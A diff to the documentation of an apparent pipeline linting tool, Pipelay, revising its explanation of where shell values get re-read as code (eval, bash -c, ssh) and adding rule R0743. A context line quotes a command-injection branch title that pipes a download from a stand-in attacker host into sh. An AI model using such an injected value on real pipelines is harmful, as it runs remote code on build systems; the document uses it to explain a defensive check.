@@ -14,7 +14,7 @@ name of its branch: a title such as `"; curl evil.example | sh; "` is run, with 
 Pipelay gives such expressions to variables by itself, as the pass `harden`, where it knows that the shell does the same with them. It does not
 know so where the text is read as code once more, by `eval`, `bash -c`, `ssh` or an interpreter, in arithmetic, in a here-document without
 expansion, in code of PowerShell and Python outside of texts, and in other shells than these, bash and sh. There the script has to be another. It follows a value through
-pipes, variables, functions and files of a script, and cannot follow it everywhere: what a variable says should never be evaluated.
+pipes, variables, functions and files of a script; where it loses sight of it, and something there may read it as code, that is R0743.
 
 ## Bad
 ```pipe
